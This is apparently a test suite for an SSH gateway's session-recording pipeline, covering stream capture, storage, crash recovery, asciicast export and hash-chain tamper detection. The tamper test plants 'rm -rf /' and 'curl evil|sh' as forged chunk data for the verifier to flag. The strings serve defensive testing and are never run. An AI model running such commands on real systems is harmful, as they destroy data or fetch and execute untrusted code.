// Recorded byte streams end to end inside one process, against real stores (a fresh Postgres
// database, and the embedded store): StreamRecorder → journal → shipper → stream_chunks → verify
// and export. What an SSH listener will do with a shell channel, without SSH.
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { openStore, StoreError, type Store } from "@gatehouse/store";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { asciicast, streamSummaries } from "../src/api/stream-export.js";
import { configSchema } from "../src/config/schema.js";
import { GatewayError } from "../src/errors.js";
import { startRecording, type Recording } from "../src/evidence/recording.js";
import { parsePublicKeys } from "../src/evidence/signing.js";
import { streamSummaryOf } from "../src/evidence/stream-chain.js";
import { verifySession } from "../src/evidence/verify.js";
import { formatFailure } from "../src/cli/verify-command.js";
import { createLogger } from "../src/logger.js";
import type { RecordedSession } from "../src/sessions/recorder.js";
import type { StreamMeta } from "../src/sessions/stream-recorder.js";
import { createStoreDatabase } from "./support/store-database.js";
import { canMountTmpfs, fillDisk, mountTmpfs } from "./support/tmpfs.js";

const logger = createLogger("fatal");
const dirs: string[] = [];
const running: Recording[] = [];
const stores: { name: string; store: Store; drop?: () => Promise<void> }[] = [];

beforeAll(async () => {
  const database = await createStoreDatabase("gatehouse_streams");
  stores.push({ name: "postgres", store: await openStore({ url: database.url(), maxConnections: 4 }), drop: () => database.drop() });
  stores.push({ name: "embedded", store: await openStore({ memory: true }) });
});

afterAll(async () => {
  for (const { store, drop } of stores) {
    await store.close();
    await drop?.();
  }
});

afterEach(async () => {
  for (const r of running.splice(0)) await r.close().catch(() => undefined);
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

function dataDir(): string {
  const dir = mkdtempSync(join(tmpdir(), "gatehouse-streams-"));
  dirs.push(dir);
  return dir;
}

let clockUs = 1_800_000_000_000_000;
const clock = () => (clockUs += 1_000);

async function start(store: Pick<Store, "record">, dir: string, options: { mode?: "strict" | "best-effort"; journal?: Record<string, number> } = {}) {
  const settings = configSchema.parse({ recording: { mode: options.mode ?? "strict", ...(options.journal ? { journal: options.journal } : {}) } }).recording;
  const recording = await startRecording({ dataDir: dir, store, settings, clock, logger, shipper: { retryMinMs: 10, retryMaxMs: 50, gatherMs: 0 } });
  running.push(recording);
  return recording;
}

async function crash(recording: Recording): Promise<void> {
  running.splice(running.indexOf(recording), 1);
  await recording.shipper.stop();
  await recording.journal.close();
}

const meta = { identity: { name: "agent" }, connection: "web1", protocol: "ssh", connector: "dc1", clientAddress: "127.0.0.1", clientApplication: "OpenSSH_9.2" };
const shell: StreamMeta = { kind: "shell", channel: 0, capBytes: 1024 * 1024, term: "xterm-256color", cols: 80, rows: 24 };

/** The stored session, its events and chunks, and what verify says of them. */
async function stored(store: Store, recording: Recording, sessionId: string) {
  expect(await recording.shipper.drain(10_000)).toBe(true);
  const found = await store.sessions.get(sessionId);
  if (!found) throw new Error(`session ${sessionId} not in the store`);
  const chunks = await store.streams.chunks([sessionId]);
  const keys = parsePublicKeys(recording.signingKey.publicKeyPem, "test");
  return { ...found, chunks, verdict: verifySession(found.session, found.events, keys, chunks), keys };
}

/** A typed shell: the session's stream, the summary in its closing event, the session sealed. */
async function typedShell(session: RecordedSession): Promise<void> {
  const stream = session.openStream(shell);
  await stream.input(Buffer.from("echo hi\r"));
  stream.output(Buffer.from("echo hi\r\n"));
  stream.output(Buffer.from("hi\r\n"));
  stream.output(Buffer.from("oops\r\n"), 2);
  stream.resize(120, 40);
  await stream.input(Buffer.from("exit\r"));
  stream.output(Buffer.from("logout\r\n"));
  await session.record({ kind: "shell", outcome: "ok", details: { exitStatus: 0, stream: stream.end() } });
  await session.close("client_closed");
}

describe.each(["postgres", "embedded"])("streams in the %s store", (name) => {
  const store = () => stores.find((s) => s.name === name)!.store;

  it("records a shell both ways with its sizes, ships it, and verify passes", async () => {
    const recording = await start(store(), dataDir());
    const session = await recording.recorder.open(meta);
    await typedShell(session);
    const { events, chunks, verdict } = await stored(store(), recording, session.id);
    expect(verdict).toMatchObject({ ok: true, open: false });
    const summary = streamSummaryOf(events[0]!.details)!;
    expect(summary).toMatchObject({ streamId: 1, kind: "shell", term: "xterm-256color", cols: 80, rows: 24, bytesIn: 13, bytesOut: 27, truncated: false, chunks: chunks.length });
    expect(summary.hash).toBe(chunks.at(-1)!.hash);
    // Chunks in the order they happened: the initial size, input, output (coalesced), stderr, resize, input, output.
    expect(chunks.map((c) => [c.direction, Buffer.from(c.data).toString()])).toEqual([
      ["r", "80x24"],
      ["i", "echo hi\r"],
      ["o", "echo hi\r\nhi\r\n"],
      ["e", "oops\r\n"],
      ["r", "120x40"],
      ["i", "exit\r"],
      ["o", "logout\r\n"],
    ]);
    expect(chunks.map((c) => c.seq)).toEqual([1, 2, 3, 4, 5, 6, 7]);
    // Time stamps never go backwards and the coalesced chunk keeps its first byte's time.
    for (let i = 1; i < chunks.length; i++) expect(chunks[i]!.timeUs).toBeGreaterThanOrEqual(chunks[i - 1]!.timeUs);
  });

  it("binary output is stored as the exact bytes, not text", async () => {
    const recording = await start(store(), dataDir());
    const session = await recording.recorder.open(meta);
    const stream = session.openStream({ kind: "exec", channel: 3, capBytes: 1024 * 1024 });
    const bytes = Buffer.from(Array.from({ length: 256 }, (_, i) => i));
    stream.output(bytes);
    await session.record({ kind: "exec", command: "cat /bin/true", outcome: "ok", details: { stream: stream.end() } });
    await session.close("client_closed");
    const { chunks, verdict } = await stored(store(), recording, session.id);
    expect(verdict.ok).toBe(true);
    expect(chunks).toHaveLength(1);
    expect(Buffer.from(chunks[0]!.data).equals(bytes)).toBe(true);
  });

  it("stores output up to the session's budget, shared by its streams; input is always stored", async () => {
    const recording = await start(store(), dataDir());
    const session = await recording.recorder.open(meta);
    const cap = 100;
    const first = session.openStream({ kind: "exec", channel: 0, capBytes: cap });
    first.output(Buffer.alloc(60, "a"));
    await first.input(Buffer.from("typed after the flood\n"));
    first.output(Buffer.alloc(60, "b"));
    const firstSummary = first.end();
    const second = session.openStream({ kind: "exec", channel: 1, capBytes: cap });
    second.output(Buffer.alloc(10, "c"));
    await second.input(Buffer.from("more typing\n"));
    const secondSummary = second.end();
    await session.record({ kind: "exec", outcome: "ok", details: { stream: firstSummary } });
    await session.record({ kind: "exec", outcome: "ok", details: { stream: secondSummary } });
    await session.close("client_closed");
    expect(firstSummary).toMatchObject({ bytesOut: 120, bytesIn: 22, truncated: true });
    expect(secondSummary).toMatchObject({ bytesOut: 10, bytesIn: 12, truncated: true, chunks: 1 });
    const { chunks, verdict } = await stored(store(), recording, session.id);
    expect(verdict.ok).toBe(true);
    const text = (id: number) => chunks.filter((c) => c.streamId === id).map((c) => `${c.direction}:${Buffer.from(c.data).toString()}`);
    // 60 a's + 22 typed = 82; 18 b's fit; the second stream has no room left for output.
    expect(text(1)).toEqual([`o:${"a".repeat(60)}`, "i:typed after the flood\n", `o:${"b".repeat(18)}`]);
    expect(text(2)).toEqual(["i:more typing\n"]);
  });

  it("closes a killed gateway's stream as interrupted, with its chunks summarized, and it verifies", async () => {
    const dir = dataDir();
    const first = await start(store(), dir);
    const session = await first.recorder.open(meta);
    const stream = session.openStream(shell);
    await stream.input(Buffer.from("top\r"));
    stream.output(Buffer.from("load average: 0.1\r\n"));
    await stream.input(Buffer.from("q"));
    await first.journal.whenDurable(first.journal.lastLsn);
    await crash(first);

    const second = await start(store(), dir);
    expect(second.recovery.openSessions[0]?.streams?.map((s) => [s.streamId, s.chunks])).toEqual([[1, 4]]);
    const { session: row, events, chunks, verdict } = await stored(store(), second, session.id);
    expect(verdict.ok).toBe(true);
    expect(row.endReason).toBe("gateway_restart");
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ kind: "shell", outcome: null, details: { status: "interrupted", reason: "gateway_restart" } });
    expect(streamSummaryOf(events[0]!.details)).toMatchObject({ streamId: 1, chunks: 4, bytesIn: 5, bytesOut: 19, hash: chunks.at(-1)!.hash });
  });

  it("a stream left open when its session closes is summarized as unfinished", async () => {
    const recording = await start(store(), dataDir());
    const session = await recording.recorder.open(meta);
    const stream = session.openStream(shell);
    await stream.input(Buffer.from("sleep 100\r"));
    await session.close("connector_lost");
    const { events, verdict } = await stored(store(), recording, session.id);
    expect(verdict.ok).toBe(true);
    expect(events[0]).toMatchObject({ kind: "shell", details: { status: "unfinished", stream: { chunks: 2 } } });
  });

  it("the export is asciicast v2 that asciinema cat plays", async () => {
    const recording = await start(store(), dataDir());
    const session = await recording.recorder.open(meta);
    const stream = session.openStream(shell);
    await stream.input(Buffer.from("ls\r"));
    // A UTF-8 character cut between two chunks comes out whole.
    const snow = Buffer.from("snow ☃ here\r\n");
    stream.output(snow.subarray(0, 6));
    await new Promise((resolve) => setTimeout(resolve, 20)); // past the coalescing window: two chunks
    stream.output(snow.subarray(6));
    await session.record({ kind: "shell", outcome: "ok", details: { stream: stream.end() } });
    await session.close("client_closed");
    const { session: row, events, chunks } = await stored(store(), recording, session.id);
    expect(chunks.filter((c) => c.direction === "o")).toHaveLength(2);
    const text = asciicast(row, streamSummaries(events)[0], chunks);
    const [header, ...lines] = text.trimEnd().split("\n").map((l) => JSON.parse(l) as unknown);
    expect(header).toEqual({ version: 2, width: 80, height: 24, timestamp: Math.floor(chunks[0]!.timeUs / 1e6), env: { TERM: "xterm-256color" } });
    expect(lines.map((l) => (l as unknown[]).slice(1))).toEqual([
      ["r", "80x24"],
      ["i", "ls\r"],
      ["o", "snow "],
      ["o", "☃ here\r\n"],
    ]);
    const file = join(dataDir(), "shell.cast");
    writeFileSync(file, text);
    // asciinema reads its controls from /dev/tty: give it a terminal, as a person's would be.
    const played = execFileSync("script", ["-qec", `asciinema cat ${file}`, "/dev/null"], { encoding: "utf8" });
    expect(played).toContain("snow ☃ here");
    expect(played).not.toContain("ls\r"); // input is not played back as output
  });

  it("verify names an edited, a deleted and an inserted chunk", async () => {
    const recording = await start(store(), dataDir());
    const sessions: string[] = [];
    for (let i = 0; i < 4; i++) {
      const session = await recording.recorder.open(meta);
      await typedShell(session);
      sessions.push(session.id);
    }
    expect(await recording.shipper.drain(10_000)).toBe(true);
    const [edited, deleted, insertedEnd, insertedMiddle] = sessions as [string, string, string, string];
    const sql = store().sql;
    await sql.query(`update stream_chunks set data = convert_to('rm -rf /', 'UTF8') where session_id = $1 and seq = 2`, [edited]);
    await sql.query("delete from stream_chunks where session_id = $1 and seq = 3", [deleted]);
    // One more chunk after the end, hashed as the gateway would (no key is needed for that).
    const last = (await store().streams.chunks([insertedEnd])).at(-1)!;
    const { chunkHash } = await import("../src/evidence/stream-chain.js");
    const extra = { sessionId: insertedEnd, streamId: 1, seq: last.seq + 1, timeUs: last.timeUs + 1, direction: "i" as const, data: Buffer.from("curl evil|sh\r") };
    await store().record({ chunks: [{ ...extra, prevHash: last.hash, hash: chunkHash(last.hash, extra) }] });
    // One in the middle, the rest renumbered to make room.
    await sql.query("update stream_chunks set seq = seq + 100 where session_id = $1 and seq >= 4", [insertedMiddle]);
    await sql.query("update stream_chunks set seq = seq - 99 where session_id = $1 and seq >= 100", [insertedMiddle]);
    const third = (await store().streams.chunks([insertedMiddle]))[2]!;
    await sql.query(
      "insert into stream_chunks (session_id, stream_id, seq, ts, direction, data, prev_hash, hash) values ($1, 1, 4, now(), 'o', convert_to('fake', 'UTF8'), $2, $3)",
      [insertedMiddle, third.hash, "0".repeat(64)],
    );

    const failures = [];
    for (const id of sessions) failures.push((await stored(store(), recording, id)).verdict.failure);
    expect(failures.map((f) => f && { stream: f.stream, reason: f.reason })).toEqual([
      { stream: { id: 1, chunk: 2 }, reason: "edited" },
      { stream: { id: 1, chunk: 3 }, reason: "deleted" },
      { stream: { id: 1, chunk: 8 }, reason: "inserted" },
      { stream: { id: 1, chunk: 4 }, reason: "inserted" },
    ]);
    expect(formatFailure(failures[0]!)).toBe(`FAIL  ${edited}  stream 1 chunk 2  edited  the chunk's content does not match its hash`);
  });
});

describe("strict input", () => {
  const store = () => stores[0]!.store;

  it("resolves only once the chunk is durable in the journal", async () => {
    const recording = await start(store(), dataDir());
    const session = await recording.recorder.open(meta);
    const stream = session.openStream(shell);
    const pending = stream.input(Buffer.from("whoami\r"));
    expect(pending).toBeInstanceOf(Promise);
    const lsn = recording.journal.lastLsn;
    expect(recording.journal.durableLsn).toBeLessThan(lsn);
    await pending;
    expect(recording.journal.durableLsn).toBeGreaterThanOrEqual(lsn);
    stream.end();
    await session.close("client_closed");
  });

  it("many inputs at once share journal rounds (group commit)", async () => {
    const recording = await start(store(), dataDir());
    const session = await recording.recorder.open(meta);
    const stream = session.openStream(shell);
    const flushes = recording.journal.stats.flushes;
    await Promise.all(Array.from({ length: 50 }, (_, i) => stream.input(Buffer.from(String(i)))));
    expect(recording.journal.stats.flushes - flushes).toBeLessThan(10);
    stream.end();
    await session.close("client_closed");
  });

  it("rejects with RECORDING_UNAVAILABLE when the journal is full, and best-effort never waits", async () => {
    const down = { record: () => Promise.reject(new StoreError("CONNECT_FAILED", "the store does not answer")) };
    const recording = await start(down, dataDir(), { journal: { maxBytes: 64 * 1024, segmentBytes: 16 * 1024 } });
    const session = await recording.recorder.open(meta);
    const stream = session.openStream(shell);
    let refusal: unknown;
    let accepted = 0;
    for (let i = 0; i < 2000; i++) {
      try {
        await stream.input(Buffer.alloc(2000, "x"));
        accepted++;
      } catch (error) {
        refusal = error;
        break;
      }
    }
    expect(refusal).toBeInstanceOf(GatewayError);
    expect(refusal).toMatchObject({ code: "RECORDING_UNAVAILABLE", recording: { reason: "journal_full" } });
    expect(accepted).toBeGreaterThan(10);
    expect(() => session.openStream(shell)).toThrow(/journal is full/);

    const lax = await start(down, dataDir(), { mode: "best-effort", journal: { maxBytes: 64 * 1024, segmentBytes: 16 * 1024 } });
    const laxSession = await lax.recorder.open(meta);
    const laxStream = laxSession.openStream(shell);
    for (let i = 0; i < 200; i++) expect(laxStream.input(Buffer.alloc(2000, "x"))).toBeUndefined();
    expect(laxStream.end()).toMatchObject({ bytesIn: 400_000 });
    expect(laxStream.summary().lost).toBeGreaterThan(0);
  });

  it.runIf(canMountTmpfs())("holds input while the disk refuses the journal (ENOSPC), and takes it again once there is room", async () => {
    const disk = mountTmpfs("1m");
    try {
      const recording = await start(store(), disk.path, { journal: { segmentBytes: 16 * 1024, maxBytes: 64 * 1024 * 1024 } });
      const session = await recording.recorder.open(meta);
      const stream = session.openStream(shell);
      const filler = join(disk.path, "filler");
      fillDisk(filler);
      let refusal: unknown;
      for (let i = 0; i < 200 && !refusal; i++) await stream.input(Buffer.alloc(1000, "y"))?.catch((error: unknown) => (refusal = error));
      expect(refusal).toMatchObject({ code: "RECORDING_UNAVAILABLE", recording: { reason: "journal_unwritable", errno: "ENOSPC" } });
      rmSync(filler);
      // The journal retries every second; then input is taken again, and the session verifies.
      const deadline = Date.now() + 10_000;
      for (;;) {
        const ok = await (stream.input(Buffer.from("back\r")) ?? Promise.resolve()).then(() => true, () => false);
        if (ok) break;
        if (Date.now() > deadline) throw new Error("the journal never became writable again");
        await new Promise((resolve) => setTimeout(resolve, 200));
      }
      await session.record({ kind: "shell", outcome: "ok", details: { stream: stream.end() } });
      await session.close("client_closed");
      const { verdict } = await stored(store(), recording, session.id);
      expect(verdict.ok).toBe(true);
      await recording.close();
      running.splice(running.indexOf(recording), 1);
    } finally {
      disk.unmount();
    }
  });
});
